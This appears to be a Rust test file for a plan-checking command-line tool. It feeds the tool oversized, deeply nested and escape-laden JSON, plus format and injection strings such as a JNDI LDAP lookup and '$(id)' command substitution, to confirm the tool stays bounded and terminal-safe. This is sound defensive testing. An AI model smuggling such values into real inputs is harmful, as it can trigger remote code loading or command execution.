//! Whatever a file holds, checking it ends soon, in findings that are bounded, and tells the terminal nothing.

#![allow(clippy::expect_used, clippy::panic, clippy::unwrap_used, reason = "a test may end where it is")]

use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use check_plan::checked::Checked;
use check_plan::{described, shown};
use jiff::Timestamp;
use plan::clean::seen;
use plan::finding::{MAX_FINDINGS, reject};
use serde_json::{Value, json};
use support::growth::timed;
use support::plans::{event, full_load};

/// How large a hostile file is, in bytes; a plan has 160 KiB at the most.
const SIZE: usize = 10_000_000;

/// What checking may take of a processor, in a build for tests on a busy machine. Most take a twentieth of it.
const LONGEST: Duration = Duration::from_secs(12);

/// A plan with more in it, as text.
fn beside(more: &str) -> String {
    format!("{{\"Task\":{{\"ReplicationTaskIdentifier\":\"orders\"}},{more}}}")
}

fn repeated(piece: &str) -> String {
    piece.repeat(SIZE / piece.len())
}

/// Names of files, and what is in them.
fn bombs() -> Vec<(&'static str, String)> {
    let numbered = |piece: &dyn Fn(usize) -> String, length: usize| -> String {
        (0..SIZE / length).map(piece).collect::<Vec<_>>().join(",")
    };
    let rules = json!({"rules": (0..SIZE / 66)
        .map(|nth| json!({"rule-type": "selection", "rule-id": nth.to_string(), "a": 1}))
        .collect::<Vec<_>>()})
    .to_string();
    vec![
        ("a long text", beside(&format!("\"Comment\":\"{}\"", repeated("x")))),
        ("a long name", beside(&format!("\"{}\":1", repeated("x")))),
        ("names that a screen cannot show", beside(&format!("\"{}\":1", repeated("\\u001b\\u202e")))),
        ("very many members", beside(&numbered(&|nth| format!("\"m{nth}\":{nth}"), 17))),
        ("very many lists", format!("[{}]", numbered(&|_| "[]".to_owned(), 3))),
        ("a nest of lists", repeated("[")),
        ("a nest of objects", format!("{}1{}", repeated("{\"a\":"), "}".repeat(SIZE / 5))),
        ("one key again and again", format!("{{{}}}", numbered(&|_| "\"Task\":1".to_owned(), 9))),
        (
            "keys again and again behind a long name",
            format!("{{\"{}\":{{{}\"a\":1}}}}", repeated("k"), "\"a\":1,".repeat(10_000)),
        ),
        ("a number of very many digits", beside(&format!("\"LagSeconds\":{}", repeated("9")))),
        ("a number beyond any", beside(&format!("\"LagSeconds\":1e{}", repeated("9")))),
        ("halves of characters", beside(&format!("\"Comment\":\"{}\"", repeated("\\ud800")))),
        ("very many lines", format!("{}{{\"Strt\":1}}", repeated("\n"))),
        (
            "very many words",
            beside(&format!("\"Window\":{{\"Days\":[{}]}}", numbered(&|_| "\"Montag\"".to_owned(), 9))),
        ),
        ("a mapping as text", full_load().with("/Task/TableMappings", json!(rules)).0.to_string()),
        ("a text without an end", beside(&format!("\"Comment\":\"{}", repeated("\\\"")))),
    ]
}

#[test]
fn ten_megabytes_of_anything_end_in_a_few_findings_within_seconds() {
    let now: Timestamp = "2026-11-20T22:00:00Z".parse().unwrap();
    for (name, text) in bombs() {
        assert!(text.len() > SIZE * 9 / 10, "{name}: {} bytes", text.len());
        let (report, took) = timed(|| {
            let checked = Checked::at(&text, None, now).expect("nothing is described");
            assert!(reject(&checked.findings) && checked.findings.len() <= MAX_FINDINGS + 1, "{name}");
            shown::findings("plan.json", &text, &checked.findings, false)
        });
        assert!(took < LONGEST, "{name}: {took:?}");
        assert!(report.len() < 200_000, "{name}: {} bytes are shown", report.len());
        is_told_nothing(&report);
        let (refused, took) = timed(|| described::tasks(&text).is_err());
        assert!(refused && took < LONGEST, "{name} as an answer of DMS: {took:?}");
    }
}

/// Nothing in a text is for a terminal, and all of it is seen.
#[track_caller]
fn is_told_nothing(text: &str) {
    let hidden = |c: char| (c.is_control() && c != '\n') || seen(c) != c;
    // A renderer has its own mark for what cannot be shown.
    let hidden = |c: char| hidden(c) && c != char::REPLACEMENT_CHARACTER;
    let at = text.find(hidden);
    assert_eq!(
        at,
        None,
        "{:?}",
        at.map(|at| &text[text.floor_char_boundary(at.saturating_sub(40))..text.ceil_char_boundary(at + 20)])
    );
}

/// What a terminal obeys, and what turns or hides what a person reads.
const ESCAPES: &str =
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{9d}\u{85}\u{7f}\r\u{202e}\u{2066}\u{200b}\u{feff}";

fn folder() -> PathBuf {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile");
    std::fs::create_dir_all(&folder).expect("a folder can be made");
    folder
}

/// Calls the command in the folder of this test.
fn check<A: AsRef<OsStr>>(arguments: &[A]) -> Output {
    let command =
        Command::new(env!("CARGO_BIN_EXE_check-plan")).args(arguments).current_dir(folder()).output();
    command.expect("the command starts")
}

fn printed(output: &Output) -> String {
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).expect("text");
    format!("{}{}", text(&output.stdout), text(&output.stderr))
}

#[test]
fn neither_names_nor_texts_of_files_reach_the_terminal_as_they_are() {
    let name = format!("plan{}.json", ESCAPES.replace('/', ""));
    let mut plan = full_load().with("/Start", json!(ESCAPES)).with("/Notify", json!({"Team": ESCAPES})).0;
    plan[ESCAPES] = json!(ESCAPES);
    let mut task = event("pasted-task")["Task"].clone();
    task["Tags"] = json!([{"Key": ESCAPES, "Value": ESCAPES}]);
    task["TaskData"] = json!(ESCAPES);
    // JSON in which the escapes stand as they are, as far as JSON lets them.
    let raw = |value: &Value| {
        let text = value.to_string();
        ["\\u007f", "\\u0085", "\\u009b"].iter().fold(text, |text, escape| text.replace(escape, "\u{9b}"))
    };
    let write =
        |name: &str, text: &str| std::fs::write(folder().join(name), text).expect("a file can be written");
    write(&name, &raw(&plan));
    write("task.json", &raw(&task));
    let (status, reason) = (ESCAPES, format!("Stop Reason {ESCAPES}"));
    let described = json!({"ReplicationTaskIdentifier": "orders", "MigrationType": "full-load", "Status": status,
        "StopReason": reason, "LastFailureMessage": ESCAPES, "ReplicationTaskStats": {"TablesErrored": 1}});
    write("described.json", &raw(&described));
    write("named.json", &json!({"Task": {"ReplicationTaskIdentifier": "orders"}}).to_string());
    let missing = format!("no{ESCAPES}such.json");
    for (arguments, status) in [
        (vec![name.as_str()], 1),
        (vec!["--json", &name], 1),
        (vec!["--json", &name, &missing], 2),
        (vec![&missing], 2),
        (vec!["--from-task", "task.json"], 0),
        (vec!["--from-task", "task.json", "--external"], 0),
        (vec!["--from-task", &name], 2),
        (vec!["--task", "task.json", "named.json"], 2),
        (vec!["--task", &name, "named.json"], 2),
        (vec!["--task", "described.json", "named.json"], 0),
        (vec!["--task", "described.json", "--json", "named.json"], 0),
        (vec![ESCAPES], 2),
        (vec![&format!("--{ESCAPES}")], 2),
    ] {
        let output = check(&arguments);
        assert_eq!(output.status.code(), Some(status), "{arguments:?}: {output:?}");
        assert!(!printed(&output).is_empty());
        is_told_nothing(&printed(&output));
    }
    // What machines get says the same.
    let output = check(&["--from-task", "task.json"]);
    let plan: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(plan["Task"]["Tags"][0]["Key"], task["Tags"][0]["Key"]);
    let output = check(&["--json", &name, "named.json"]);
    let found: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(found["Findings"].as_array().map(|found| found.len() > 2), Some(true), "{found}");
}

/// Words that a formatter would take for its own are words.
#[test]
fn format_strings_are_texts() {
    for text in ["%s%n%x", "{}{0}{:?}", "{name}", "${jndi:ldap://192.0.2.1/a}", "$(id)`id`", "\\x1b[31m"] {
        let plan = full_load().with("/Start", json!(text)).0.to_string();
        let now: Timestamp = "2026-11-20T22:00:00Z".parse().unwrap();
        let checked = Checked::at(&plan, None, now).unwrap();
        let shown = shown::findings("plan.json", &plan, &checked.findings, false);
        assert!(shown.contains(&format!("not {text:?}")), "{shown}");
    }
}
